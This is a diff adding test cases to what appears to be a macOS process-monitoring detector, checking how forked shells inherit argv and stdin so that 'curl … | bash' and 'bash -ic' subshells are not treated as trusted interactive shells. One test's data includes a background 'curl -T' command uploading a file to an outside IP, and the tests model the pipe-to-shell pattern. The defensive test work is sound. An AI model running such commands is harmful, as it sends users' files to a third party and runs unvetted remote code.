@@ -101,3 +101,55 @@ describe('through the pipeline into the process model', () => {
     expect(isInteractiveShell(unknown)).toBe(true);
   });
 });
+
+describe('a fork inherits its parent\'s argv and stdin (a review\'s case)', () => {
+  const tty = '/dev/ttys001';
+  const zshChild = { pid: 830, ppid: 810, path: '/bin/zsh', signingId: 'com.apple.zsh', teamId: null, platform: true, startMs: T - 1000, tty };
+  const piped = { ...zshChild, path: '/bin/bash', signingId: 'com.apple.bash' };
+  const subshell = { ...piped, pid: 840, ppid: 830, startMs: T - 500 };
+
+  function terminalSession() {
+    const config = parseConfig({});
+    const processes = createProcessModel({ config, clock: fixedClock(S + 10), log: silentLogger() });
+    const seen = S - 7200;
+    processes.observe({ pid: 800, processStart: seen, ppid: 1, path: '/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal', signingId: 'com.apple.Terminal', teamId: null, platformBinary: true, source: 'ps', seenAt: seen });
+    processes.observe({ pid: 805, processStart: seen + 1, ppid: 800, path: '/usr/bin/login', args: ['login', '-pf', 'dana'], tty: true, source: 'ps', seenAt: seen });
+    processes.observe({ pid: 810, processStart: seen + 2, ppid: 805, path: '/bin/zsh', args: ['-zsh'], tty: true, source: 'ps', seenAt: seen });
+    const pipeline = new EsloggerPipeline({
+      matcher: SensitivePathMatcher.fromConfig({ replace_defaults: false, add: [] }),
+      processes,
+      signing: recordingServices().signing,
+      sensitiveEvents: new RingBuffer<SensitiveFileEventRow>(100, 1800, (e) => e.time),
+      archiveEvents: new RingBuffer<ArchiveEventRow>(100, 1800, (e) => e.time),
+      precursorRetention: { tier1: 43_200, other: 1800 },
+      now: () => S + 10,
+    });
+    return { processes, pipeline };
+  }
+
+  it('a subshell forked by a pipe-fed bash (`curl … | bash` pasted into zsh) is no group root either', () => {
+    const { processes, pipeline } = terminalSession();
+    const b = { ...body.exec(piped, ['bash'], '/Users/dana', 10), fds: [{ fd: 0, fdtype: 6 }, { fd: 1, fdtype: 1 }, { fd: 2, fdtype: 1 }] };
+    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: zshChild, body: b }));
+    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: piped, body: body.fork(subshell, 10) }));
+    const child = processes.get(840)!;
+    expect(child).toMatchObject({ args: ['bash'], stdin: 'pipe' });
+    expect(isInteractiveShell(child)).toBe(false);
+    expect(processes.group(child).root.pid).toBe(810);
+  });
+
+  it('a subshell of `bash -ic \'…\'` runs the same command line: no group root', () => {
+    const { processes, pipeline } = terminalSession();
+    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: zshChild, body: body.exec(piped, ['bash', '-ic', '( curl -T x https://203.0.113.5/ ) &'], '/Users/dana', 10) }));
+    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: piped, body: body.fork(subshell, 10) }));
+    expect(processes.group(processes.get(840)!).root.pid).toBe(810);
+  });
+
+  it('a fork of the user\'s interactive shell (its job) keeps that shell\'s facts: the terminal still vouches for it', () => {
+    const { processes, pipeline } = terminalSession();
+    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: { ...zshChild, pid: 810, ppid: 805, startMs: (S - 7198) * 1000 }, body: body.fork({ ...zshChild, pid: 850, ppid: 810, startMs: T - 500 }, 10) }));
+    expect(processes.get(850)).toMatchObject({ args: ['-zsh'] });
+    expect(processes.get(850)!.stdin).toBeUndefined();
+  });
+});
+
